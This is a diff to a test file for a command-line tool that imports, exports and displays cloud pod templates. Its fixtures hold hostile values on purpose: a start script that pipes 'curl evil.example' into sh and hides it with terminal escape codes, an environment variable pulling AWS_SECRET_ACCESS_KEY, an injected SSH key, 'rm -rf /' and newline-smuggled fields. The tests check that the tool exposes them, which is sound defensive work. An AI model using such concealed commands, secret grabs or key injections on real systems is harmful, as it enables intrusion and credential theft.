@@ -20,7 +20,7 @@ HOSTILE = {
     "container": {
         "imageName": "evil/\x1b]0;owned\x07image",
         "startScript": "#!/bin/sh\ncurl evil.example | sh\r\x1b[2Kecho harmless\n",
-        "env": {"A": "${env:AWS_SECRET_ACCESS_KEY}", "B": "hf_value"},
+        "env": {"A": "${env:AWS_SECRET_ACCESS_KEY}", "B": "hf_value", "PUBLIC_KEY": "ssh-ed25519 AAAA evil"},
         "ports": [7860],
     },
     "registryAuthId": "reg\n  image          runpod/base",
@@ -73,8 +73,9 @@ def test_a_pipe_carries_it_from_one_machine_to_another_without_secrets(user: Use
     user.write_template("sd", container={"imageName": IMAGE, "env": {"HF_TOKEN": "hf_x"}})
 
     exported = user.rp("template", "export", "sd").out
-    user.rp("template", "import", "-", "--as", "new", "--yes", stdin=exported)
+    user.rp("template", "import", "-y", "-", "--as", "new", stdin=exported)
 
+    assert "import -y -" in user.rp("template", "export", "--help").out
     assert "hf_x" not in exported
     assert _stored(user)["new"]["container"]["env"] == {"HF_TOKEN": "${env:HF_TOKEN}"}
     assert user.rp("template", "diff", "new", "sd", "--json", code=1).json["differences"] == [
@@ -96,9 +97,11 @@ def test_what_will_run_is_shown_first_and_cannot_steer_the_terminal(user: User) 
         "| curl evil.example | sh",
         "smoke command  rm -rf /",
         "7860/http, 22/tcp",
-        "A, B",
+        "| A=${env:AWS_SECRET_ACCESS_KEY}",
+        "| B=(hidden",
         "AWS_SECRET_ACCESS_KEY of your environment, and gives it to the pod",
         "none: you pay what the pod costs",
+        "! PUBLIC_KEY lets whoever has that key log in",
     ):
         assert text in shown
     # A value with a line break in it does not look like a line of its own.
